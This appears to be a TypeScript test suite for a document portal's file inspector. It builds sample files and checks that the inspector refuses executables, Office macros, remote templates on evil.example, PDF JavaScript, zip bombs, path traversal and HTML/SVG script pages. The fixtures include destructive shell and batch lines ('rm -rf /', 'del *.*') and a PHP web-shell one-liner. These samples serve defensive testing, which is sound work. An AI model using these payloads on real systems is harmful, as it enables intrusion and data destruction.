import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateRawSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { afterAll, describe, expect, test } from "vitest";
import { resources } from "#i18n/resources.ts";
import {
  madeJpeg,
  madeOfEachKind,
  madePdf,
  madePng,
  madeZip,
  officeParts,
  openParts,
  type ZipPart,
} from "#tests/support/made-files.ts";
import { inspectContent } from "./file-content.ts";
import { inspectFile } from "./file-inspection.ts";
import { fileKinds } from "./file-kind.ts";

const folder = mkdtempSync(join(tmpdir(), "portal-content-"));
afterAll(() => rmSync(folder, { recursive: true }));

let count = 0;

function written(bytes: Buffer | string): string {
  count += 1;
  const path = join(folder, String(count));
  writeFileSync(path, bytes);
  return path;
}

/** The kind of a file with that content, or why it is not taken. */
async function found(bytes: Buffer | string, name = "report.pdf"): Promise<string> {
  const path = written(bytes);
  try {
    const inspected = await inspectContent(path, name);
    return inspected.ok ? inspected.value.kind : inspected.error;
  } finally {
    rmSync(path);
  }
}

const withPart = (part: ZipPart, kind: "docx" | "xlsx" | "pptx" = "docx") => madeZip([...officeParts(kind), part]);
const docx = officeParts("docx");

const relations = (one: string) => `<?xml version="1.0"?><Relationships>${one}</Relationships>`;
const template = (target: string, type = "attachedTemplate") => ({
  name: "word/_rels/settings.xml.rels",
  content: relations(
    `<Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  ),
});

/** A container of older Office with a stream of that name. */
const ole = (stream: string) =>
  Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(16),
    Buffer.from("3e000300feff0900", "hex"),
    Buffer.alloc(480),
    Buffer.from(stream, "utf16le"),
    Buffer.alloc(1024),
  ]);

const exe = Buffer.concat([Buffer.from("MZ\u0090\u0000\u0003", "latin1"), Buffer.alloc(400)]);
const elf = Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.alloc(400)]);
const script = "app.launchURL('https://evil.example')";

const programs: Record<string, Buffer | string> = {
  "of Windows": exe,
  "of Linux": elf,
  "of a Mac": Buffer.concat([Buffer.from("cffaedfe07000001", "hex"), Buffer.alloc(400)]),
  "of Java": Buffer.from("cafebabe00000034", "hex"),
  "in WebAssembly": Buffer.from("0061736d01000000", "hex"),
  "a script of a shell": "#!/bin/sh\nrm -rf /\n",
  "a batch of Windows": "@echo off\r\ndel *.*\r\n",
  "a script of a server": "<?php system($_GET['a']); ?>",
  "changes of a registry": "Windows Registry Editor Version 5.00\r\n",
  "a link of the Internet": "[InternetShortcut]\r\nURL=file:///c:/a.exe\r\n",
};

const macros: Record<string, Buffer> = {
  "in Word": withPart({ name: "word/vbaProject.bin", content: ole("_VBA_PROJECT") }),
  "in Word, in other letters": withPart({ name: "WORD/VBAPROJECT.BIN", content: "x" }),
  "in Excel": withPart({ name: "xl/vbaProject.bin", content: "x" }, "xlsx"),
  "in Excel of 1992": withPart({ name: "xl/macrosheets/sheet1.xml", content: "<x/>" }, "xlsx"),
  "in PowerPoint": withPart({ name: "ppt/vbaProject.bin", content: "x" }, "pptx"),
  "by its type, under the name of none": madeZip(
    docx.map((part) =>
      part.name === "[Content_Types].xml"
        ? {
            ...part,
            content: String(part.content).replace(
              "openxmlformats-officedocument.wordprocessingml.document",
              "ms-word.document.macroEnabled",
            ),
          }
        : part,
    ),
  ),
  "in OpenDocument": madeZip([...openParts("odt"), { name: "Basic/Standard/Module1.xml", content: "<x/>" }]),
  "scripts in OpenDocument": madeZip([...openParts("ods"), { name: "Scripts/python/a.txt", content: "x" }]),
  "of a template elsewhere": withPart(template("https://evil.example/a.dotm")),
  "of a template on a share": withPart(template("\\\\evil.example\\a.dotm")),
  "of an object elsewhere": withPart(template("https://evil.example/a", "oleObject")),
  "in a table behind a chart": withPart({
    name: "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
    content: withPart({ name: "xl/vbaProject.bin", content: "x" }, "xlsx"),
  }),
  "in an object of older Office": withPart({ name: "word/embeddings/oleObject1.bin", content: ole("_VBA_PROJECT") }),
  "in a PDF": madePdf(1, {
    more: "/Names << /JavaScript << /Names [(a) 3 0 R] >> >>",
    objects: [`<< /S /JavaScript /JS (${script}) >>`],
  }),
  "in a PDF, as it opens": madePdf(1, { more: "/OpenAction 3 0 R", objects: [`<< /S /JavaScript /JS (${script}) >>`] }),
};

const locked: Record<string, Buffer> = {
  "Office of today": ole("EncryptedPackage"),
  OpenDocument: madeZip(
    openParts("odt").map((part) =>
      part.name === "META-INF/manifest.xml"
        ? { ...part, content: "<manifest:manifest><manifest:encryption-data/></manifest:manifest>" }
        : part,
    ),
  ),
  "a zip": madeZip(docx.map((part) => ({ ...part, said: { flags: 0x0801 } }))),
  PDF: madePdf(1, {
    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${"41".repeat(32)}> /U <${"42".repeat(32)}> >> /ID [<41><41>]`,
  }),
};

/** Encrypted under the empty password, by the oldest of its rules: every reader opens it. */
const forbidsCopying = (() => {
  const pad = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
  const owner = Buffer.alloc(32, 7);
  const rights = Buffer.from("d4ffffff", "hex");
  const key = createHash("md5").update(pad).update(owner).update(rights).update("A").digest().subarray(0, 5);
  const user = rc4(key, pad);
  const entry = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${owner.toString("hex")}> /U <${user.toString("hex")}> >> /ID [<41><41>]`;
  return madePdf(2, { trailer: entry });
})();

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const box = Array.from({ length: 256 }, (_, at) => at);
  let [i, j] = [0, 0];
  const swap = (more: number) => {
    j = (j + (box[i] ?? 0) + more) % 256;
    [box[i], box[j]] = [box[j] as number, box[i] as number];
  };
  for (i = 0; i < 256; i += 1) swap(key[i % key.length] ?? 0);
  [i, j] = [0, 0];
  return bytes.map((byte) => {
    i = (i + 1) % 256;
    swap(0);
    return byte ^ (box[((box[i] ?? 0) + (box[j] ?? 0)) % 256] ?? 0);
  }) as Buffer;
}

const zeros = Buffer.alloc(80 * 1024 * 1024);
const bombs: Record<string, Buffer> = {
  "zeros of 80 MB in a part": withPart({ name: "word/media/a.bmp", content: zeros }),
  "a part that is said to be 3 GB": withPart({ name: "word/a.xml", content: "x", said: { bytes: 3_000_000_000 } }),
  "30,000 parts": madeZip([...docx, ...Array.from({ length: 30_000 }, (_, at) => ({ name: `a/${at}`, content: "" }))]),
  "a list of types of 20 MB": madeZip(
    docx.map((part) => (part.name === "[Content_Types].xml" ? { ...part, content: Buffer.alloc(20e6, " ") } : part)),
  ),
};

const lying: Record<string, Buffer> = {
  "a part that says it is smaller": withPart({
    name: "word/a.xml",
    content: Buffer.alloc(1e6, "x"),
    said: { bytes: 10 },
  }),
  "two parts of one name": madeZip([...docx, ...docx.slice(2)]),
  "a part with a path upwards": withPart({ name: "../../etc/passwd", content: "x" }),
  "a part with the path of a disk": withPart({ name: "C:/a.xml", content: "x" }),
  "a part packed in an unknown way": withPart({ name: "word/a.xml", content: "x", said: { method: 99 } }),
  "no part at all": madeZip([]),
};

const archives: Record<string, Buffer> = {
  "a zip of texts": madeZip([{ name: "a.txt", content: "a" }]),
  gzip: gzipSync("a".repeat(1000)),
  "7z": Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), Buffer.alloc(100)]),
  rar: Buffer.concat([Buffer.from("526172211a0700", "hex"), Buffer.alloc(100)]),
  bzip2: Buffer.concat([Buffer.from("BZh91AY&SY"), Buffer.alloc(100)]),
  xz: Buffer.concat([Buffer.from("fd377a585a00", "hex"), Buffer.alloc(100)]),
};

const pages: Record<string, Buffer | string> = {
  "a page": "<!DOCTYPE html><html><body onload=alert(1)>",
  "a page without its beginning": "<body><script>alert(1)</script>",
  "a page after a remark": "<!-- a -->\n<script>alert(1)</script>",
  "a page after spaces": `${" \n".repeat(300)}<html>`,
  "a drawing": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  "a drawing in XML": '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  "a page in UTF-16": Buffer.concat([
    Buffer.from("fffe", "hex"),
    Buffer.from("<html><script>alert(1)</script>", "utf16le"),
  ]),
  "a page as a letter": "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n<html>",
};

const within: Record<string, Buffer | string> = {
  "a program in Word": withPart({ name: "word/media/a.exe", content: exe }),
  "a program under another name": withPart({ name: "word/media/image1.png", content: exe }),
  "a program in an object": withPart({ name: "word/embeddings/oleObject1.bin", content: ole("\u0001Ole10Native") }),
  "a script in OpenDocument": madeZip([...openParts("odp"), { name: "Pictures/a.js", content: "x" }]),
  "an object in RTF": "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
  "a program in a PDF": madePdf(1, {
    more: "/Names << /EmbeddedFiles << /Names [(run.exe) 3 0 R] >> >>",
    objects: [
      "<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 4 0 R >> >>",
      "<< /Length 2 >>\nstream\nMZ\nendstream",
    ],
  }),
};

const others: Record<string, Buffer> = {
  "older Office": ole("WordDocument"),
  "a film": Buffer.concat([Buffer.from("000000186674797069736f6d", "hex"), Buffer.alloc(64)]),
  sound: Buffer.concat([Buffer.from("ID3\u0004", "latin1"), Buffer.alloc(64)]),
  "a picture that moves": Buffer.from("GIF89a\u0001\u0000\u0001\u0000", "latin1"),
  "bytes without sense": Buffer.from(Array.from({ length: 500 }, (_, at) => (at * 37) % 251)),
  "a template": madeZip(
    docx.map((part) => ({ ...part, content: String(part.content).replace("document.main+xml", "template.main+xml") })),
  ),
};

describe("a file is taken by what it holds", () => {
  test.each(fileKinds)("%s", async (kind) => {
    expect(await found(madeOfEachKind[kind], kind === "csv" ? "figures.csv" : "virus.exe")).toBe(kind);
  });

  test("a text in the letters of an older Russian program", async () => {
    expect(await found(Buffer.from("d1eee3ebe0f1eee2e0edee", "hex"), "a.txt")).toBe("txt");
  });

  test("a text that speaks of markup", async () => {
    expect(await found("In HTML, <script> begins a script, and x < y.", "a.txt")).toBe("txt");
  });

  test("a document that was made from a template on its author's disk", async () => {
    expect(await found(withPart(template("file:///C:\\Users\\a\\Normal.dotm")))).toBe("docx");
  });

  test("a document with a table behind its chart", async () => {
    const chart = { name: "word/embeddings/Microsoft_Excel_Sheet1.xlsx", content: madeOfEachKind.xlsx };
    expect(await found(withPart(chart))).toBe("docx");
  });

  test("a PDF that only forbids copying opens without a password, so it is taken", async () => {
    expect(await found(forbidsCopying)).toBe("pdf");
  });
});

describe("a file is refused with its reason", () => {
  const each = (files: Record<string, Buffer | string>) => Object.entries(files);
  test.each(each(programs))("a program %s", async (_, bytes) => expect(await found(bytes)).toBe("fileIsProgram"));
  test.each(each(macros))("macros %s", async (_, bytes) => expect(await found(bytes)).toBe("fileHasMacros"));
  test.each(each(locked))("a password of %s", async (_, bytes) => expect(await found(bytes)).toBe("fileHasPassword"));
  test.each(each(bombs))("a bomb: %s", async (_, bytes) => expect(await found(bytes)).toBe("fileUnpacksTooLarge"));
  test.each(each(lying))("a zip that lies: %s", async (_, bytes) => expect(await found(bytes)).toBe("fileBroken"));
  test.each(each(archives))("an archive: %s", async (_, bytes) => expect(await found(bytes)).toBe("fileIsArchive"));
  test.each(each(pages))("%s", async (_, bytes) => expect(await found(bytes, "a.txt")).toBe("fileIsPage"));
  test.each(each(within))("%s", async (_, bytes) => expect(await found(bytes)).toBe("fileHasProgram"));
  test.each(each(others))("%s", async (_, bytes) => expect(await found(bytes)).toBe("fileTypeNotTaken"));
});

const problems = new Set<string>(Object.keys(resources.en.errors));
const taken = new Set<string>(fileKinds);

describe("whatever is sent ends in a sentence, or is one of the kinds that are taken", () => {
  const good = Object.values(madeOfEachKind);
  const bad = [programs, macros, locked, lying, archives, pages, within, others].flatMap((files) =>
    Object.values(files),
  );
  const whole = [...good, ...bad].map((bytes) => Buffer.from(bytes)).filter(({ length }) => length < 100_000);

  const changed = fc
    .tuple(
      fc.constantFrom(...whole),
      fc.constantFrom("flip", "cut", "double", "join", "pack", "insert") as fc.Arbitrary<string>,
      fc.array(fc.nat(), { minLength: 1, maxLength: 12 }),
      fc.constantFrom(...whole),
    )
    .map(([bytes, how, places, other]) => {
      const at = (place = 0) => place % Math.max(1, bytes.length);
      switch (how) {
        case "flip": {
          const flipped = Buffer.from(bytes);
          for (const place of places) flipped[at(place)] = place % 256;
          return flipped;
        }
        case "cut":
          return bytes.subarray(0, at(places[0]));
        case "double":
          return Buffer.concat([bytes, bytes]);
        case "join":
          return Buffer.concat([bytes, other]);
        case "pack":
          return withPart({ name: `word/embeddings/${places[0]}.bin`, content: bytes });
        default:
          return Buffer.concat([
            bytes.subarray(0, at(places[0])),
            deflateRawSync(other),
            bytes.subarray(at(places[0])),
          ]);
      }
    });

  test("of 1200 files that were made by force", async () => {
    const ends = new Map<string, number>();
    let tried = 0;
    await fc.assert(
      fc.asyncProperty(changed, fc.constantFrom("a.pdf", "a.txt", "a.csv", "a"), async (bytes, name) => {
        const end = await found(bytes, name);
        tried += 1;
        ends.set(end, (ends.get(end) ?? 0) + 1);
        expect(problems.has(end) || taken.has(end), end).toBe(true);
      }),
      { numRuns: 1200 },
    );
    const counted = [...ends].sort(([, a], [, b]) => b - a).map(([end, times]) => `${end} ${times}`);
    console.log(`${tried} files made by force: ${counted.join(", ")}`);
    expect(tried).toBeGreaterThanOrEqual(500);
    expect(ends.size).toBeGreaterThan(10);
  });
});

describe("a file is read in a process of its own", () => {
  test("which tells what it is", async () => {
    const pdf = await inspectFile(written(madePdf(7)), "Доклад");
    expect(pdf).toEqual({
      ok: true,
      value: { kind: "pdf", pages: 7, name: "Доклад", isReadable: true, scannedAt: null },
    });
    expect(await inspectFile(written(exe), "a.pdf")).toMatchObject({ error: "fileIsProgram" });
    expect(await inspectFile(written(""), "a.pdf")).toMatchObject({ error: "fileEmpty" });
    expect(await inspectFile(written(madePng), "../a.png")).toMatchObject({ error: "fileNameIsAPath" });
    expect(await inspectFile(written(madeJpeg), "a\u202Egpj.exe")).toMatchObject({ error: "fileNameHidesItsOrder" });
  });
});
